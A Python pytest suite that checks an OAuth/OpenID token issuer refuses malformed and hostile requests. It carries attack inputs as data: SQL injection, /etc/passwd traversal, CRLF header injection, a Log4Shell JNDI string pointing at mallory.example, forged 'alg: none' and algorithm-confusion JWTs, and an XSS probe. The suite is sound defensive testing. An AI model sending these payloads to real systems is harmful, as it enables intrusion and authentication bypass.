"""Requests that are made to be misunderstood, at the endpoints of the issuer."""

import json
from base64 import b64encode, urlsafe_b64encode

import jwt
import pytest

from services.token_issuer.authorization.begin import Redirect, Refused
from services.token_issuer.authorization.logout import begin_logout
from services.token_issuer.events import KeyUse
from services.token_issuer.signing import generate
from tests.support.issuing import HUB, ISSUER, PUBLIC, SPA, Stage, error, query

TOKEN, INTROSPECT, REVOKE = "/id/connect/token", "/id/connect/introspect", "/id/connect/revocation"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}

STRANGE = [
    "\0",
    "a\0b",
    "'; DROP TABLE token_issuer.grants; --",
    "{}",
    "../../etc/passwd",
    "%00",
    "\r\nX-Injected: 1",
    "\ud7ff\U0010ffff",
    "\U0001d4ef\U0001d4fb",
    "\u202e",
    " ",
    "x" * 5000,
    "${jndi:ldap://mallory.example}",
    "sdr_" + "a" * 22 + "." + "b" * 43,
    "sdc_" + "a" * 22 + "." + "b" * 43,
    "a.b.c",
    "eyJhbGciOiJub25lIn0.e30.",
]


@pytest.mark.parametrize("path", [TOKEN, INTROSPECT, REVOKE])
async def test_strange_values_are_refused_and_break_nothing(stage: Stage, path: str) -> None:
    hub = await stage.register(resources=True)
    names = ("code", "code_verifier", "redirect_uri", "refresh_token", "scope", "resource", "token", "client_id")
    for value in STRANGE:
        for grant in ("authorization_code", "refresh_token", "client_credentials", value):
            form = {"grant_type": grant, **dict.fromkeys(names, value)}
            answer = await stage.http.post(path, data=form)
            assert 400 <= answer.status_code < 500, (value, grant)
            del form["client_id"]
            answer = await stage.http.post(path, data=form, headers=hub.headers())
            assert answer.status_code < 500, (value, grant)
            assert "X-Injected" not in answer.headers


async def test_strange_authorization_requests_break_nothing(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    names = (
        *("client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce", "prompt"),
        *("max_age", "code_challenge", "code_challenge_method", "id_token_hint", "login_hint", "ui_locales"),
        *("resource", "audience", "acr_values", "claims", "display"),
    )
    for value in STRANGE:
        for name in names:
            outcome = await stage.begin(hub, **{name: value})
            if isinstance(outcome, Redirect):
                assert outcome.uri.startswith(hub.redirect_uri + "?")
                assert outcome.uri.isascii()
                assert "\n" not in outcome.uri
        await begin_logout(stage.issuer, [("id_token_hint", value), ("post_logout_redirect_uri", value)])


@pytest.mark.parametrize(
    "name", ["grant_type", "code", "client_id", "redirect_uri", "code_verifier", "scope", "unknown"]
)
async def test_nothing_is_said_twice(stage: Stage, name: str) -> None:
    hub = await stage.register(resources=True)
    pairs = f"grant_type=client_credentials&{name}=read&{name}=read"
    answer = await stage.http.post(TOKEN, content=pairs, headers={**hub.headers(), **FORM})
    assert error(answer) == "invalid_request"


async def test_nothing_is_said_in_the_address(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    form = {"grant_type": "client_credentials"}
    for query_string in (f"client_id={HUB}&client_secret={hub.secret}", "scope=read", "x=y", "token=abc"):
        for path in (TOKEN, INTROSPECT, REVOKE):
            answer = await stage.http.post(f"{path}?{query_string}", data=form, headers=hub.headers())
            assert (answer.status_code, error(answer)) == (400, "invalid_request")
            assert (hub.secret or "") not in answer.text


async def test_a_client_proves_itself_in_one_way(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    form = {"grant_type": "client_credentials", "client_id": HUB, "client_secret": hub.secret or ""}
    assert error(await stage.http.post(TOKEN, data=form)) == "invalid_client"
    assert error(await stage.http.post(TOKEN, data=form, headers=hub.headers())) == "invalid_request"
    header = hub.headers()["Authorization"]
    twice = await stage.http.post(
        TOKEN, data={"grant_type": "client_credentials"}, headers=[("Authorization", header), ("Authorization", header)]
    )
    assert error(twice) == "invalid_request"
    named = {"grant_type": "client_credentials", "client_id": SPA}
    assert error(await stage.http.post(TOKEN, data=named, headers=hub.headers())) == "invalid_request"


async def test_nobody_learns_which_applications_there_are(stage: Stage) -> None:
    await stage.register(resources=True)
    await stage.register(PUBLIC, SPA)

    async def answer(client_id: str) -> tuple[int, str]:
        pair = "Basic " + b64encode(f"{client_id}:guess".encode()).decode()
        got = await stage.http.post(TOKEN, data={"grant_type": "client_credentials"}, headers={"Authorization": pair})
        return got.status_code, got.text

    assert len({await answer(client_id) for client_id in (HUB, SPA, "com.unknown/app")}) == 1


async def test_other_bodies_are_not_read(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    form = {"grant_type": "client_credentials"}
    for content, kind in (
        (json.dumps(form), "application/json"),
        ("grant_type=client_credentials", "text/plain"),
        ("grant_type=client_credentials", "application/x-www-form-urlencoded; charset=utf-16"),
        ("grant_type=client_credentials%ff", FORM["Content-Type"]),
        ("grant_type=client_credentials%zz", FORM["Content-Type"]),
        ("grant_type=client_credentials\xe9", FORM["Content-Type"]),
    ):
        answer = await stage.http.post(TOKEN, content=content, headers={**hub.headers(), "Content-Type": kind})
        assert (answer.status_code, error(answer)) == (400, "invalid_request"), kind
    answer = await stage.http.post(TOKEN, files={"grant_type": (None, "client_credentials")}, headers=hub.headers())
    assert error(answer) == "invalid_request"


async def test_there_are_bounds(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    large = "grant_type=client_credentials&scope=" + "r" * 70_000
    answer = await stage.http.post(TOKEN, content=large, headers={**hub.headers(), **FORM})
    assert answer.status_code == 413
    many = "grant_type=client_credentials&" + "&".join(f"a{number}=b" for number in range(200))
    answer = await stage.http.post(TOKEN, content=many, headers={**hub.headers(), **FORM})
    assert error(answer) == "invalid_request"
    assert isinstance(await stage.begin(hub, *((f"p{number}", "x") for number in range(100))), Refused)
    assert isinstance(await stage.begin(hub, state="x" * 30_000), Refused)


def _unsigned(header: dict[str, object], token: str) -> str:
    part = urlsafe_b64encode(json.dumps(header).encode()).rstrip(b"=").decode()
    return f"{part}.{token.split('.')[1]}."


async def test_a_hint_has_to_be_one_of_ours(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    spa = await stage.register(PUBLIC, SPA)
    sub = await stage.user()
    body = await stage.tokens(hub, sub)
    hint = body["id_token"]
    kid = jwt.get_unverified_header(hint)["kid"]
    claims = jwt.decode(hint, options={"verify_signature": False})
    own, _ = generate(KeyUse.ID_TOKEN)
    forged = [
        _unsigned({"alg": "none", "typ": "JWT", "kid": kid}, hint),
        _unsigned({"alg": "none", "typ": "JWT", "kid": kid}, hint) + hint.split(".")[2],
        _unsigned({"alg": "None", "typ": "JWT", "kid": kid}, hint),
        _unsigned({"alg": "RS256", "typ": "JWT", "kid": "../../dev/null"}, hint) + hint.split(".")[2],
        _unsigned({"alg": "RS256", "typ": "JWT", "kid": "' OR 1=1"}, hint) + hint.split(".")[2],
        _unsigned({"alg": "ES256", "typ": "JWT", "kid": kid}, hint) + hint.split(".")[2],
        jwt.encode(claims, "k" * 32, algorithm="HS256", headers={"kid": kid}),
        own.sign("JWT", claims),
        body["access_token"],
        body["refresh_token"],
        (await stage.tokens(spa, sub))["id_token"],
        hint + "A",
    ]
    for token in forged:
        outcome = await stage.begin(hub, id_token_hint=token)
        assert isinstance(outcome, Redirect), token
        assert query(outcome.uri)["error"] == "invalid_request"
    for token in forged[:-2]:
        assert isinstance(await begin_logout(stage.issuer, [("id_token_hint", token)]), Refused)
    signer = stage.issuer.keys.signer(KeyUse.ID_TOKEN)
    foreign = signer.sign("JWT", {**claims, "iss": ISSUER + "/other"})
    outcome = await stage.begin(hub, id_token_hint=foreign)
    assert isinstance(outcome, Redirect)


async def test_request_objects_are_not_fetched_or_read(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    for name in ("request", "request_uri", "registration"):
        outcome = await stage.begin(hub, **{name: "https://mallory.example/request.jwt"})
        assert isinstance(outcome, Redirect)
        assert query(outcome.uri)["error"] == f"{name}_not_supported"


async def test_introspection_is_no_oracle(stage: Stage) -> None:
    """Somebody else's live token and a made-up one give the same bytes."""
    hub = await stage.register(resources=True)
    other = await stage.register(client_id="com.setlist/app")
    body = await stage.tokens(hub, await stage.user())
    answers = [
        await stage.introspect(other, token)
        for token in (body["access_token"], body["refresh_token"], "a.b.c", body["access_token"][:-5] + "AAAAA")
    ]
    assert len({(answer.status_code, answer.content) for answer in answers}) == 1


async def test_errors_never_repeat_what_was_sent(stage: Stage) -> None:
    hub = await stage.register(resources=True)
    probe = "<script>alert(1)</script>"
    for form in (
        {"grant_type": probe},
        {"grant_type": "client_credentials", "scope": "read" + probe},
        {"grant_type": "client_credentials", "resource": probe},
        {"grant_type": "authorization_code", "code": probe},
        {"grant_type": "refresh_token", "refresh_token": probe},
    ):
        answer = await stage.token(hub, **form)
        assert answer.status_code == 400
        assert "alert" not in answer.text
        assert answer.headers["content-type"] == "application/json"
